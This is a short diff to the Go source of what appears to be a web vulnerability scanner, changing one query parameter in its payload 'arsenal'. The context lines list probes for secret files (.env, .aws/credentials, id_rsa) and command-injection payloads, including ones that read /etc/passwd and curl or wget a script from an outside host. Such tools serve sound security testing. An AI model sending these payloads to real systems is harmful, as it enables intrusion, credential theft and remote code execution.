@@ -214,7 +214,7 @@ func arsenal() []weapon {
 			payloads: []string{"/.env", "/.git/HEAD", "/.git/config", "/.htpasswd", "/backup.sql", "/WEB-INF/web.xml", "/server-status", "/actuator/env", "/phpinfo.php", "/.env.bak", "/.aws/credentials", "/id_rsa", "/.svn/entries", "/wp-config.php.bak", "/config.json.old", "/.DS_Store"}},
 
 		{name: "commands", kind: "rce",
-			places:   []place{inQuery("/ping?host="), inQuery("/backup?name=")},
+			places:   []place{inQuery("/ping?addr="), inQuery("/backup?name=")},
 			payloads: []string{";id", "127.0.0.1;id", "127.0.0.1 && id", "127.0.0.1|id", "127.0.0.1 | cat /etc/passwd", "$(id)", "`id`", "127.0.0.1%0aid", "127.0.0.1\nid", "127.0.0.1;cat${IFS}/etc/passwd", "127.0.0.1;ls -la", "127.0.0.1;uname -a", "127.0.0.1;env", "127.0.0.1;sleep 5", "127.0.0.1 & sleep 6 &", "127.0.0.1;ping -c 6 127.0.0.1", "127.0.0.1;echo $((4711*3))", "127.0.0.1;whoami", "127.0.0.1;i''d", "127.0.0.1;/bin/c?t /etc/pass?d", "127.0.0.1;curl http://203.0.113.66/x.sh", "127.0.0.1||wget http://203.0.113.66/a -O /tmp/a", "127.0.0.1;echo aWQ=|base64 -d|sh", "127.0.0.1;head -1 /etc/passwd", "127.0.0.1;printf 'LAB%s' 4711", "127.0.0.1;ps aux", "; nosuchcommand", "127.0.0.1;{id,-u}", "127.0.0.1;a=i;b=d;$a$b", "127.0.0.1;rev<<<'di'"}},
 		{name: "commands in quotes", kind: "rce",
 			places:   []place{inForm("/convert", "to=png&", "name")},
